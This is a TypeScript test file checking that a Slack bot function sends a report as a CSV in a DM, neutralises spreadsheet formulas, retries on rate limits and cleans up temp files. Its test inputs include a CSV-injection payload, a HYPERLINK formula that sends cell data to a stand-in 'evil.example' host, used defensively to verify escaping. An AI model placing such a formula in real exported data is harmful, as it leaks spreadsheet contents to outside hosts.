/**
 * sendCsvToDm through the Slack emulator with the real WebClient: the CSV arrives in the DM as
 * one file, reads back cell for cell (formulas neutralised), the temp file is gone, and each
 * failing step says which one it was.
 */
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sendCsvToDm, type CsvExportError } from '../../src/slack/csv-to-dm';
import { botClient, emulatorHarness, MEMBER } from '../slack-emulator/emulator-fixture';

const harness = emulatorHarness();

const HEADER = ['Member', 'Email', 'Action', 'Before', 'After', 'Details'] as const;
const NASTY = [
  'Chloé Dupont',
  '👩‍💻 Zoë 🇫🇷',
  'שלום, עולם',
  'say "hi", then leave',
  'line one\nline two',
  'crlf\r\ninside',
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  '-1+1',
  '+33 1 23 45 67 89',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading CR',
  '',
];
const FORMULA_START = /^[=+\-@\t\r]/;
const ROWS = 3_000;

function rowAt(i: number): string[] {
  const pick = (offset: number) => NASTY[(i + offset) % NASTY.length] as string;
  return [`${pick(0)} #${i}`, `user${i}@example.com`, i % 2 === 0 ? 'created' : 'deactivated', pick(3), pick(7), i % 5 === 0 ? pick(11) : ''];
}

/** The cell a spreadsheet should show: the value itself, or `'` + value when it could run. */
function neutralised(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

async function* rowsOf(count: number, onEnd?: () => void, failAt?: number): AsyncGenerator<readonly string[]> {
  for (let i = 0; i < count; i += 1) {
    if (i === failAt) throw new Error('the report cursor died');
    yield rowAt(i);
  }
  onEnd?.();
}

/** RFC 4180 reader for the checks: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const char = text[i] as string;
    if (char === '"' && field === '') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else {
          field += text[i];
          i += 1;
        }
      }
    } else if (char === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (char === '"' || char === '\r' || char === '\n') throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
      field += char;
      i += 1;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

let tempDir: string;
beforeEach(async () => {
  tempDir = await mkdtemp(join(tmpdir(), 'csv-to-dm-test-'));
});
afterEach(async () => {
  await rm(tempDir, { recursive: true, force: true });
});

async function rejectionOf(promise: Promise<unknown>): Promise<CsvExportError> {
  try {
    await promise;
  } catch (error) {
    return error as CsvExportError;
  }
  throw new Error('expected the export to fail, it succeeded');
}

describe('sendCsvToDm', () => {
  it('sends a few thousand rows as one CSV file in the DM, read back cell for cell with formulas neutralised', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator);
    let filesWhileWriting: string[] = [];
    const result = await sendCsvToDm(
      bot,
      {
        userId: MEMBER,
        filename: 'sync-report.csv',
        title: 'Sync report',
        comment: 'Your sync report',
        header: HEADER,
        rows: rowsOf(ROWS, () => (filesWhileWriting = readdirSync(tempDir))),
      },
      { tmpDir: tempDir },
    );

    expect(filesWhileWriting).toHaveLength(1);
    expect(await readdir(tempDir)).toEqual([]);

    const stored = [...emulator.state.files.values()];
    expect(stored).toHaveLength(1);
    const file = stored[0]!.file;
    expect(file).toMatchObject({ id: result.fileId, name: 'sync-report.csv', title: 'Sync report', mimetype: 'text/csv', size: result.bytes });
    expect(emulator.callsOf('files.getUploadURLExternal')[0]?.args).toMatchObject({ filename: 'sync-report.csv', length: String(result.bytes) });
    const messages = emulator.messagesTo(MEMBER);
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatchObject({ text: 'Your sync report', files: [expect.objectContaining({ id: result.fileId })] });

    const download = await fetch(file.url_private_download, { headers: { authorization: `Bearer ${emulator.botToken}` } });
    const bytes = Buffer.from(await download.arrayBuffer());
    expect(bytes.length).toBe(result.bytes);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.subarray(3).toString('utf8'));

    expect(result.lines).toBe(ROWS + 1);
    expect(records).toHaveLength(ROWS + 1);
    expect(records[0]).toEqual([...HEADER]);
    records.slice(1).forEach((record, i) => expect(record).toEqual(rowAt(i).map(neutralised)));
    expect(records.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(records.flat()).toEqual(expect.arrayContaining([`'=HYPERLINK("http://evil.example/?d="&A1,"click")`, "'-1+1", "'\tleading tab", "'\rleading CR"]));
  });

  it('waits Retry-After and tries again when a rate-limited client is refused', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator, { rejectRateLimitedCalls: true });
    emulator.injectFault('files.getUploadURLExternal', { status: 429, retryAfter: 2, times: 1 });
    emulator.injectFault('files.completeUploadExternal', { status: 429, retryAfter: 3, times: 2 });
    const waits: number[] = [];

    const result = await sendCsvToDm(
      bot,
      { userId: MEMBER, filename: 'inventory.csv', title: 'Users', header: HEADER, rows: rowsOf(10) },
      { tmpDir: tempDir, sleep: async (ms) => void waits.push(ms) },
    );

    expect(waits).toEqual([2_000, 3_000, 3_000]);
    expect(result.lines).toBe(11);
    expect(emulator.messagesTo(MEMBER)).toHaveLength(1);
    expect([...emulator.state.files.values()].filter((stored) => stored.completed)).toHaveLength(1);
    expect(await readdir(tempDir)).toEqual([]);
  });

  it('gives up on a step still rate limited after the retries, naming it', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator, { rejectRateLimitedCalls: true });
    emulator.injectFault('conversations.open', { status: 429, retryAfter: 1, times: 5 });
    const waits: number[] = [];

    const error = await rejectionOf(
      sendCsvToDm(
        bot,
        { userId: MEMBER, filename: 'a.csv', title: 'A', header: HEADER, rows: rowsOf(1) },
        { tmpDir: tempDir, maxRateLimitRetries: 2, sleep: async (ms) => void waits.push(ms) },
      ),
    );

    expect(error).toMatchObject({
      code: 'csv_export_failed',
      step: 'conversations.open',
      context: { step: 'conversations.open', userId: MEMBER, filename: 'a.csv' },
    });
    expect(error.message).toMatch(/failed at conversations\.open: still rate limited/);
    expect(waits).toEqual([1_000, 1_000]);
    expect(emulator.callsOf('files.getUploadURLExternal')).toHaveLength(0);
  });

  it('names files.completeUploadExternal and Slack’s error when the last step fails, and removes the temp file', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator);
    emulator.injectFault('files.completeUploadExternal', { error: 'internal_error', times: 1 });

    const error = await rejectionOf(
      sendCsvToDm(bot, { userId: MEMBER, filename: 'r.csv', title: 'R', header: HEADER, rows: rowsOf(500) }, { tmpDir: tempDir }),
    );

    expect(error).toMatchObject({ code: 'csv_export_failed', step: 'files.completeUploadExternal' });
    expect(error.message).toBe(`Sending r.csv to ${MEMBER}'s DM failed at files.completeUploadExternal: Slack answered internal_error`);
    expect(emulator.messagesTo(MEMBER)).toEqual([]);
    expect(await readdir(tempDir)).toEqual([]);
  });

  it('names the upload step when the upload URL refuses the bytes', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator);
    // An upload URL for no pending file: the emulator answers 404 as Slack's upload host would.
    jest
      .spyOn(bot.files, 'getUploadURLExternal')
      .mockResolvedValue({ ok: true, upload_url: `${emulator.baseUrl}/upload/v1/F0NOWHERE1`, file_id: 'F0NOWHERE1' });

    const error = await rejectionOf(sendCsvToDm(bot, { userId: MEMBER, filename: 'r.csv', title: 'R', header: HEADER, rows: rowsOf(50) }, { tmpDir: tempDir }));

    expect(error).toMatchObject({ code: 'csv_export_failed', step: 'upload' });
    expect(error.message).toMatch(/failed at upload: the upload URL answered HTTP 404/);
    expect(emulator.callsOf('files.completeUploadExternal')).toHaveLength(0);
    expect(await readdir(tempDir)).toEqual([]);
  });

  it('stops before asking Slack for an upload URL when the rows fail mid-way, and removes the partial file', async () => {
    const emulator = await harness.start();
    const bot = botClient(emulator);

    const error = await rejectionOf(
      sendCsvToDm(bot, { userId: MEMBER, filename: 'r.csv', title: 'R', header: HEADER, rows: rowsOf(ROWS, undefined, 2_000) }, { tmpDir: tempDir }),
    );

    expect(error).toMatchObject({ code: 'csv_export_failed', step: 'write_temp_file' });
    expect(error.message).toMatch(/failed at write_temp_file: the report cursor died/);
    expect((error as Error & { cause?: Error }).cause?.message).toBe('the report cursor died');
    expect(emulator.callsOf('files.getUploadURLExternal')).toHaveLength(0);
    expect(await readdir(tempDir)).toEqual([]);
  });
});
